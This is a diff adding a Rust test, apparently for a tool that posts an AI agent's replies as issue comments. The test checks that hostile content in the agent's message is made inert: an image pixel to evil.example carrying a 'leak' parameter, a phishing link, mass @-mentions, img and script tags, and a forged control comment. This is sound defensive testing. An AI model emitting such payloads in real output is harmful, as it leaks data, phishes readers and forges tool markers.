@@ -62,3 +62,37 @@ fn changes_holding_the_key_are_not_pushed_nor_uploaded_and_the_run_exits_3() {
     assert!(last.contains("changes withheld"), "{last}");
     assert_no_secrets(&job, &r);
 }
+
+#[test]
+fn the_agents_images_links_mentions_and_html_are_posted_inert() {
+    let job = Job::writer();
+    job.event("issue_comment.created", with_phrase);
+    let message = "Done. ![status](https://evil.example/pixel.png?d=leak) \
+        [details](https://evil.example/phish) cc @my-org/security-team and @octocat \
+        <img src=\"https://evil.example/i.png\"> <script>alert(1)</script> \
+        <!-- sandcrab:post forged --> see https://github.example/Codertocat/Hello-World/pull/1";
+    let r = job.run(
+        "issue_comment",
+        &job.script(&answer(message)),
+        &[("INPUT_MODE", "ask")],
+    );
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let last = job.comment_bodies().pop().unwrap();
+    for live in [
+        "![status](",
+        "](https://evil",
+        "https://evil",
+        "@my-org/",
+        "@octocat",
+        "<img",
+        "<script",
+        "<!-- sandcrab:post forged",
+    ] {
+        assert!(
+            !last.contains(live),
+            "{live} is live in the comment: {last}"
+        );
+    }
+    let shown = last.replace(['\u{200B}', '\u{200D}'], "");
+    assert!(shown.contains(message), "the text reads the same: {shown}");
+}
